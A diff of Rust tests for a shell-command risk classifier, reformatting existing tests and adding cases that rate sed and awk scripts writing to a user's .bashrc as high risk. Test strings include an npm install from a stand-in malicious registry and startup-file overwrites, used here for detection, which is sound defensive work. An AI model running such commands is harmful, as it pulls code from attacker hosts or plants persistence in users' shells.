@@ -61,7 +61,13 @@ fn with_option(prog: &str, opt: &str, value: &str) -> String {
 #[test]
 fn every_row_is_found() {
     let (opts, vars) = table_rows();
-    for (prog, opt, swap) in opts {
+    for Row {
+        program: prog,
+        option: opt,
+        swap,
+        ..
+    } in opts
+    {
         let prog = if prog == "*" { "mytool" } else { prog };
         let cmd = with_option(prog, opt, "/tmp/x");
         let hits = find(&one(&cmd));
@@ -134,7 +140,10 @@ fn the_issue_reproductions() {
         ]
         .map(Swap::factor);
         assert!(
-            a.risk.factors.iter().any(|f| swap_factors.contains(&f.as_str())),
+            a.risk
+                .factors
+                .iter()
+                .any(|f| swap_factors.contains(&f.as_str())),
             "a swap factor is recorded: {cmd}: {:?}",
             a.risk.factors
         );
@@ -199,5 +208,21 @@ fn values_inside_the_project_are_medium() {
     assert!(pattern("eslint -c .eslintrc.js .").is_none());
     assert_eq!(tier("PYTHONPATH=src pytest"), RiskTier::Medium);
     assert_eq!(tier("PYTHONPATH=/tmp/x pytest"), RiskTier::High);
-    assert_eq!(tier("npm install --registry http://evil.test/"), RiskTier::High);
+    assert_eq!(
+        tier("npm install --registry http://evil.test/"),
+        RiskTier::High
+    );
+}
+
+#[test]
+fn sed_and_awk_scripts_that_write_files() {
+    assert!(tier("sed -n 'w /home/u/.bashrc' x") >= RiskTier::High);
+    assert!(tier("sed 's/a/b/w /home/u/.bashrc' x") >= RiskTier::High);
+    assert!(tier("awk '{print > \"/home/u/.bashrc\"}' x") >= RiskTier::High);
+    assert!(tier("awk '{print $0 >> $2}' x") >= RiskTier::High);
+    assert!(pattern("sed -n 'w out.txt' x").is_none());
+    // Comparisons and ordinary scripts are not writes.
+    assert_eq!(tier("awk '$1 > 5 {print $2}' x"), RiskTier::Low);
+    assert_eq!(tier("sed -n '1,5p' x"), RiskTier::Low);
+    assert!(pattern("awk '{print $1}' x").is_some());
 }
